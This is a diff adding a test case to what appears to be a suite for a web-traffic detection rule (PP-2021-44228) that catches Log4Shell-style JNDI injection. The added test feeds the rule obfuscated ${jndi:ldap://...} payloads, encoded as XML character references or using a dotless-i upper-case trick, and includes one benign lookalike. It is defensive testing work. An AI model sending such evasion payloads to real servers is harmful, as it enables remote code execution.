@@ -144,6 +144,15 @@ describe('Apache / generic rules: extra variants', () => {
     expect(fired(post('{"note":"\\u0024{HOME} and \\u007bjndi\\u007d"}'))).not.toContain('PP-2021-44228')
   })
 
+  it('PP-2021-44228: XML character references in a body, and the dotless i that Java upper-cases to I', () => {
+    const post = (ct: string, body: string) => `POST /ws HTTP/1.1\r\nHost: x\r\nContent-Type: ${ct}\r\nContent-Length: ${body.length}\r\n\r\n${body}`
+    expect(fired(post('text/xml', '<a><u>&#36;&#123;jndi:ldap://x/a&#125;</u></a>'))).toContain('PP-2021-44228')
+    expect(fired(post('application/xml', '<a><u>&#x24;{jndi:ldap://x/a}</u></a>'))).toContain('PP-2021-44228')
+    expect(fired(post('application/xml', '<a>&#36;5 &#123;each&#125; &amp; jndi</a>'))).not.toContain('PP-2021-44228')
+    expect(fired(get('/?q=${jnd${upper:%C4%B1}:ldap://x/a}'))).toContain('PP-2021-44228')
+    expect(fired(post('application/json', '{"u":"${jnd${upper:\\u0131}:ldap://x/a}"}'))).toContain('PP-2021-44228')
+  })
+
   it('a body sent after Expect: 100-continue (judged as its own unit) is judged by every rule that reads bodies, once', () => {
     const post = (ct: string, body: string, extra = '') =>
       `POST /app HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n${extra}Content-Type: ${ct}\r\nContent-Length: ${body.length}\r\n\r\n${body}`
